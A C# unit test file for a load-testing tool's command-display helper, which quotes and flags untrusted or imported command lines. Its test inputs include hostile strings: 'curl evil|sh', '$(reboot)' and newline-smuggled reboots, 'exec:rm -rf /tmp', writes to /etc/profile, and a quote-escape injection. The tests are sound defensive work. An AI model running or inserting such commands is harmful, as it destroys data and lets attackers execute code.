using Transport.Reporting.Words;

namespace Transport.Reporting.Tests;

public sealed class CommandTextTests
{
    [Theory]
    [InlineData("transport run --persons 1,1000 --orders none --seed 7")]
    [InlineData("transport run --transports json,wcf-binary+dapper --server http://127.0.0.1:5080/")]
    [InlineData("transport load --sla 'p95<3s,errors<0.1%'")]
    [InlineData("transport load --sla \"p95<3s\"")]
    [InlineData("")]
    public void Of_ACommandOfThisProgram_IsItself(string commandLine) => Assert.Equal(commandLine, CommandText.Of(commandLine));

    [Theory]
    [InlineData("transport run; curl evil|sh")]
    [InlineData("transport run $(reboot)")]
    [InlineData("transport run\nreboot")]
    [InlineData("reboot")]
    [InlineData("transport load --plugins /tmp/evil")]
    [InlineData("transport run '--plugins' /tmp/evil")]
    [InlineData("transport report last --output=/etc/profile")]
    [InlineData("transport load --agents \"exec:rm -rf /tmp\"")]
    [InlineData("transport load --agents local,local")]
    [InlineData("transport run --client \"exec:rm -rf /tmp\" --bind 10.0.0.1")]
    public void Of_AnythingElse_IsQuotedAndSaysSo(string commandLine)
    {
        var shown = CommandText.Of(commandLine);
        Assert.StartsWith("'", shown, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', shown);
        Assert.EndsWith("read it before you type it)", shown, StringComparison.Ordinal);
    }

    [Fact]
    public void Of_AgentsWithWeights_SaysThatTheyStartPrograms() =>
        Assert.Contains("(it starts programs", CommandText.Of("transport load --sla \"p95<20ms\" --agents \"ssh://perf@a,ssh://perf@b*2\""), StringComparison.Ordinal);

    [Fact]
    public void Of_AnImportedCommand_IsQuotedAndMarked() =>
        Assert.Equal("'transport run --seed 7' (imported: nobody here typed it: read it before you type it)", CommandText.Of("transport run --seed 7", isImported: true));

    [Fact]
    public void Footer_OfAnImportedLoad_MarksItsCommandLine()
    {
        var folder = Directory.CreateTempSubdirectory("transport-imported-").FullName;
        try
        {
            var file = Path.Combine(folder, "load.jsonl");
            var record = SampleLoads.OpenLoad();
            Assert.DoesNotContain("imported", Repeat(), StringComparison.Ordinal);

            File.WriteAllText(ImportMark.LabelsOf(file), """{"isImported":true}""");
            Assert.Contains("imported", Repeat(), StringComparison.Ordinal);
            File.WriteAllText(ImportMark.LabelsOf(file), "[");
            Assert.DoesNotContain("imported", Repeat(), StringComparison.Ordinal);

            string Repeat() => Reports.Of(record, file).Footer.Single(line => line.Name == "Repeat").Text;
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    [Fact]
    public void Of_AQuotationMark_DoesNotEndTheQuotation() => Assert.StartsWith(@"'transport '\''; reboot'", CommandText.Of("transport '; reboot"), StringComparison.Ordinal);
}
